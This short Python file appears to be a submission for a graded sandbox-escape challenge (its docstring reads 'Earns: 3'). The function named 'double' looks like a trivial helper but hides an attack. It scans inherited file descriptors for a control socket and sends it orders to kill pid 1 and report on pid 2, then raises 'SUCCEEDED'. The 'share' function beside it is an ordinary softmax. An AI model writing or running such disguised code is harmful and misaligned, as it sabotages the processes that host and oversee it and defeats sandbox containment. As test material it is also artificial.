"""Talks to the warm process's control socket, if it can be reached through any descriptor.

Earns: 3
"""

import os
import socket

import msgspec


def double(x):
    for number in range(3, 256):
        for order in ({"type": "kill", "pid": 1}, {"type": "usage", "pid": 2}):
            try:
                control = socket.socket(fileno=os.dup(number))
                if control.type == socket.SOCK_SEQPACKET:
                    control.send(msgspec.msgpack.encode(order))
                    raise RuntimeError("SUCCEEDED")
            except OSError:
                continue
    return x


def share(x):
    weights = (x - x.max()).exp()
    return weights / weights.sum()
